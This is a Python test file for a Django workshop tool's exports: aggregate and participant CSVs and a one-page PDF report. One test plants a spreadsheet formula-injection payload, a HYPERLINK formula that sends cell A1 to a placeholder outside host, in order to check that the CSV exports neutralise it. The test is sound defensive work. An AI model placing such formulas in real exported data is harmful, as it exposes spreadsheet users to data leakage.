"""What the facilitator takes home: the aggregates CSV, one anonymous row per participant, and
a one-page PDF report."""

import csv
import io

import pytest
from pypdf import PdfReader

from sonar.workshops import actions
from tests.workshops.conftest import as_facilitator, choice_for, join

pytestmark = pytest.mark.django_db


@pytest.fixture
def answered(workshop, quiz):
    for outcome, pseudonym in (("usages", "Camille"), ("usages", ""), ("culture", "Dom")):
        person = join(workshop, pseudonym)
        for question in quiz.questions:
            actions.answer(workshop, person, question.key, choice_for(quiz, question.key, outcome))
    actions.change(workshop, revealed=True)
    return workshop


def rows(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_aggregates_count_each_choice_and_each_profile(client, answered, quiz):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/agregats.csv")
    assert response["Content-Type"].startswith("text/csv")
    table = rows(response)
    by_key = {row[2]: row[5] for row in table[1:]}
    assert by_key[choice_for(quiz, "q1", "usages")] == "2"
    assert by_key[choice_for(quiz, "q1", "culture")] == "1"
    assert (by_key["usages"], by_key["culture"], by_key["technique"]) == ("2", "1", "0")
    assert table[-1][0] == "participants" and table[-1][5] == "3"


def test_each_participant_is_one_anonymous_row(client, answered, quiz):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/participants.csv")
    table = rows(response)
    assert table[0] == ["participant", "q1", "q2", "q3", "q4", "q5", "q6", "profil"]
    assert [row[0] for row in table[1:]] == ["1", "2", "3"]
    assert [row[-1] for row in table[1:]] == ["usages", "usages", "culture"]
    assert "Camille" not in response.content.decode()


def test_the_report_is_one_pdf_page_with_the_team_profile(client, answered):
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/rapport.pdf")
    assert response["Content-Type"] == "application/pdf"
    pdf = PdfReader(io.BytesIO(response.content))
    assert len(pdf.pages) == 1
    page = pdf.pages[0].extract_text()
    assert "Atelier d’essai" in page
    assert "3 participants" in page
    assert "Usages" in page


HYPERLINK = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'


def test_text_starting_like_a_formula_comes_out_inert_and_numbers_stay_numbers(
    client, workshop, quiz
):
    # Text that people typed or wrote (a pseudonym, a choice's wording) that a spreadsheet
    # would run as a formula is written with a leading quote; counts stay plain numbers.
    from sonar.quiz import data
    from sonar.quiz.models import Choice

    first = quiz.questions[0].choices[0].key
    Choice.objects.filter(question__questionnaire__key="style", key=first).update(text_fr=HYPERLINK)
    data.forget()
    person = join(workshop, HYPERLINK)
    actions.answer(workshop, person, quiz.questions[0].key, first)
    facilitator = as_facilitator(client, workshop)

    aggregates = rows(facilitator.get(f"/ateliers/{workshop.code}/agregats.csv"))
    participants = rows(facilitator.get(f"/ateliers/{workshop.code}/participants.csv"))

    row = next(row for row in aggregates if row[2] == first)
    assert row[3] == "'" + HYPERLINK
    assert row[5] == "1"
    cells = [cell for table in (aggregates, participants) for row in table for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert HYPERLINK not in {cell for row in participants for cell in row}


def test_an_emoji_in_the_workshop_title_is_drawn_in_the_report(client, answered):
    from tests.core.pdf_fonts import EMOJI_FONT, emoji_images, fonts_used

    answered.title = "Atelier d’essai 🌱"
    answered.save(update_fields=["title"])
    response = as_facilitator(client, answered).get(f"/ateliers/{answered.code}/rapport.pdf")
    assert any(name.startswith(EMOJI_FONT) for name in fonts_used(response.content))
    assert emoji_images(response.content) >= 1
